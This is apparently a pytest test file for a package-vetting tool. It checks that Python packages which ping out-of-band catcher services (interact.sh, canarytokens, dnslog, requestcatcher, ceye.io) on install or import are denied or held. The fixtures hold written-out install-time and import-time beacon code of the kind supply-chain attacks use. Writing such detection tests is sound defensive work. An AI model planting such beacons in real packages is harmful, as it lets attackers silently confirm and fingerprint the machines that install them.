"""A recon package's ping: an out-of-band catcher's or a tunnel's name resolved or fetched
(ADR 0114). Every denied and held sample here was held or allowed on ``195ef63``."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package


def setup_py(body: str) -> dict[str, str]:
    """An sdist whose ``setup.py`` runs ``body`` at install, with a module of its own."""
    return {
        "setup.py": f"import socket\nfrom setuptools import setup\n{body}\nsetup(name='evpkg')\n",
        "evpkg/__init__.py": "VERSION = '1.0'\n",
    }


DENIED = {
    "interactsh-name-resolved-on-install": setup_py(
        "socket.gethostbyname('evpkg.c5x7abc.interact.sh')"
    ),
    "canarytoken-resolved-on-import": init(
        "import socket\nsocket.getaddrinfo('k3j2h1.canarytokens.com', 80)\n"
    ),
    "dnslog-resolved-by-dnspython-on-import": init(
        "import dns.resolver\ndns.resolver.resolve('evpkg.x1y2.dnslog.link', 'A')\n"
    ),
    "request-catcher-fetched-on-import": init(
        "import requests\n"
        "try:\n"
        "    requests.get('https://abc.requestcatcher.com/evpkg', timeout=2)\n"
        "except Exception:\n"
        "    pass\n"
    ),
    "ceye-fetched-on-install": setup_py(
        "import urllib.request\nurllib.request.urlopen('http://evpkg.q1w2e3.ceye.io/x')"
    ),
}
HELD = {
    "tunnel-name-resolved-when-called": init(
        "import socket\ndef where():\n    return socket.gethostbyname('a1b2.pinggy.link')\n"
    ),
}
ALLOWED = {
    "localhost-resolved-on-import": init(
        "import socket\nLOCAL = socket.gethostbyname('localhost')\n"
    ),
    "index-resolved-on-import": init("import socket\nsocket.getaddrinfo('pypi.org', 443)\n"),
    "api-fetched-when-called": init(
        "import requests\ndef latest():\n"
        "    return requests.get('https://api.github.com/repos/o/r/releases').json()\n"
    ),
    "catcher-named-in-a-docstring": init(
        '"""Debug webhooks with https://x.requestcatcher.com or canarytokens.org."""\n'
        "import socket\nHOST = socket.gethostname()\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_out_of_band_pings(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
